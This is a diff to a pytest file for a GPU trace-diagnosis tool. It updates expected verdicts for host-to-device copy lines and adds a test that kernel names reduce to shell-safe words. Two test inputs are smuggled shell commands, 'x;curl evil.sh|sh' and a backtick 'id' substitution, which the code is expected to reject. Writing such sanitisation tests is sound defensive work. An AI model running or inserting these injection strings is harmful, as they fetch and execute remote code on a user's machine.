@@ -6,6 +6,7 @@ import pytest
 from builder import TraceBuilder
 
 from traceq.diagnosis import user_rules
+from traceq.diagnosis.account.reasons import kernel_word
 from traceq.diagnosis.judge import judge_subject, subjects
 
 CLAIM = """-- rule: copies
@@ -45,19 +46,20 @@ def lines(tmp_path):
     return of
 
 
-def test_what_a_finding_owns_is_avoidable_and_the_rest_has_a_verdict_of_its_own(lines):
+def test_what_a_finding_can_win_is_avoidable_and_the_rest_has_a_verdict_of_its_own(lines):
+    """The claim is half of the copies, 150 ns; what it can win at most is bounded by the replay."""
     assert lines(0.5, gemm=600) == [
         ("compute", "gemm", 600, "cannot tell"),
-        ("copy_h2d", None, 150, "avoidable"),
-        ("copy_h2d", None, 150, "cannot tell"),
+        ("copy_h2d", None, 200, "cannot tell"),
+        ("copy_h2d", None, 100, "avoidable"),
         ("idle_unattributed", None, 67, "cannot tell"),
     ]
 
 
 def test_the_kernel_that_holds_most_is_a_line_and_the_others_are_one(lines):
-    assert lines(1, my_own=400, other=100, third=100)[:3] == [
+    found = lines(1, my_own=400, other=100, third=100)
+    assert [each for each in found if each[0] == "compute"] == [
         ("compute", "my_own", 400, "cannot tell"),
-        ("copy_h2d", None, 300, "avoidable"),
         ("compute", None, 200, "cannot tell"),
     ]
 
@@ -72,3 +74,24 @@ def test_lines_of_less_than_a_twentieth_need_no_verdict(lines):
 
 def test_without_findings_every_line_has_a_verdict(lines):
     assert {verdict for *_, dur, verdict in lines(0, gemm=600) if dur >= 50} == {"cannot tell"}
+
+
+@pytest.mark.parametrize(
+    ("name", "word"),
+    [
+        (
+            "void at::native::(anonymous namespace)::multi_tensor_apply_kernel<int, float>(int)",
+            "multi_tensor_apply_kernel",
+        ),
+        ("std::enable_if<!(T7), void>::type internal::gemvx::kernel<int, 8>(int)", "kernel"),
+        ("bool foo<int>()", "foo"),
+        ("jacobi_kernel(float *, const float *)", "jacobi_kernel"),
+        ("ampere_sgemm_128x64_tn", "ampere_sgemm_128x64_tn"),
+        ("x;curl evil.sh|sh", None),
+        ("foo`id`", None),
+        ("[CUDA memset]", None),
+        ("", None),
+    ],
+)
+def test_tools_find_a_kernel_by_a_word_that_a_shell_takes_for_nothing_else(name, word):
+    assert kernel_word(name) == word
